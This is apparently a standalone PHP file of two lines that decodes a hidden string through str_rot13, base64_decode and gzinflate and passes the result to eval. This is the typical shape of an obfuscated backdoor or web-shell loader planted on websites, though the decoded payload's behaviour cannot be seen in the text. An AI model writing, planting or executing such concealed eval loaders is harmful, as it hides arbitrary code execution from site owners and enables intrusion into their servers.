<?php
eval(gzinflate(base64_decode(str_rot13('F03BlSpbmxwAlLyCeHuA1yPWQ/NCQbyJG85AHL/IgNLN'))));
